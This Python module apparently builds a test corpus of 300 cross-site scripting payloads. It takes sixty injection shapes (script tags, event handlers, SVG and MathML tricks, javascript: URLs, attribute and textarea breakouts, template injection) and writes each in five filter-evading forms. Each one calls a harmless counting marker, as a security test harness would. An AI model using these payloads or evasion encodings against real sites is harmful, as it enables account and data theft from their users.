"""Three hundred ways to ask a page to run something: sixty shapes, each written in five ways.

Each calls `__xss()` (which the campaign counts) in a way that some page somewhere has let through: out of an element,
out of an attribute, out of a text area or a title, as an address, as a template, as another spelling of the same.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Final

SHAPES: Final = (
    "<script>__xss()</script>",
    "<script src=data:,__xss()></script>",
    "<script>__xss()//",
    "<scr<script>ipt>__xss()</script>",
    "<script type=module>__xss()</script>",
    "<img src=x onerror=__xss()>",
    "<img src=x onerror='__xss()'//",
    "<img/src=x/onerror=__xss()>",
    "<image src=x onerror=__xss()>",
    "<svg onload=__xss()>",
    "<svg/onload=__xss()//",
    "<svg><script>__xss()</script></svg>",
    "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:__xss()'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__xss()/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>",
    "<math><mtext><img src=x onerror=__xss()></mtext></math>",
    "<math href='javascript:__xss()'>x</math>",
    "<body onload=__xss()>",
    "<iframe src='javascript:__xss()'></iframe>",
    "<iframe srcdoc='<script>parent.__xss()</script>'></iframe>",
    "<object data='javascript:__xss()'></object>",
    "<embed src='javascript:__xss()'>",
    "<video><source onerror=__xss()></video>",
    "<audio src=x onerror=__xss()>",
    "<details open ontoggle=__xss()>",
    "<input autofocus onfocus=__xss()>",
    "<select autofocus onfocus=__xss()>",
    "<textarea autofocus onfocus=__xss()>",
    "<button autofocus onfocus=__xss()>x</button>",
    "<a href='javascript:__xss()' id=felsammanfattning tabindex=0>x</a>",
    "<form action='javascript:__xss()'><button>x</button></form>",
    "<form><button formaction='javascript:__xss()'>x</button></form>",
    "<isindex action='javascript:__xss()' type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss()'>",
    "<base href='javascript:/'>",
    "<link rel=stylesheet href='javascript:__xss()'>",
    "<style>@import 'javascript:__xss()';</style>",
    "<div style='animation-name:x' onanimationstart=__xss()><style>@keyframes x{}</style>",
    "<marquee onstart=__xss()>x</marquee>",
    "<x-y tabindex=1 autofocus onfocus=__xss()>",
    "<div hx-get=/ hx-trigger=load hx-on:htmx:load='__xss()'>",
    "<div data-hx-on--load='__xss()' hx-vals='js:{a:__xss()}' hx-trigger=load hx-get=/>",
    "<template shadowrootmode=open><img src=x onerror=__xss()></template>",
    "<noscript><p title='</noscript><img src=x onerror=__xss()>'>",
    "<!--><img src=x onerror=__xss()>-->",
    "<![CDATA[><img src=x onerror=__xss()>]]>",
    "<?xml version='1.0'?><img src=x onerror=__xss()>",
    "\"><img src=x onerror=__xss()>",
    "'><img src=x onerror=__xss()>",
    "\" autofocus onfocus=__xss() x=\"",
    "' autofocus onfocus=__xss() x='",
    "\" onmouseover=__xss() style=position:fixed;inset:0 x=\"",
    "</textarea><img src=x onerror=__xss()>",
    "</title><img src=x onerror=__xss()>",
    "</option></select><img src=x onerror=__xss()>",
    "</script><script>__xss()</script>",
    "javascript:__xss()",
    "{{constructor.constructor('__xss()')()}}",
    "{% print(lipsum.__globals__) %}${__xss()}#{__xss()}",
)  # fmt: skip


def mixed_case(text: str) -> str:
    """As a filter that looks for lower-case names would miss it; the call keeps its name."""
    turned = "".join(sign.upper() if at % 2 else sign for at, sign in enumerate(text))
    at = 0
    while (at := text.find("__xss()", at)) >= 0:
        turned = turned[:at] + "__xss()" + turned[at + 7 :]
        at += 7
    return turned


#: Five ways to write a shape.
WRITTEN: Final[Mapping[str, Callable[[str], str]]] = {
    "plain": str,
    "mixed case": mixed_case,
    "out of an attribute": lambda text: f'x"\'>{text}<a title="',
    "spaces of other kinds": lambda text: text.replace(" ", "\x0c").replace("=", "\u2028=", 1),
    "entities": lambda text: text.replace("(", "&#40;").replace(")", "&#x29;").replace(":", "&colon;"),
}


def payloads() -> list[tuple[str, str]]:
    """Each with what it is called."""
    return [(f"{number} {way}", write(text)) for number, text in enumerate(SHAPES) for way, write in WRITTEN.items()]
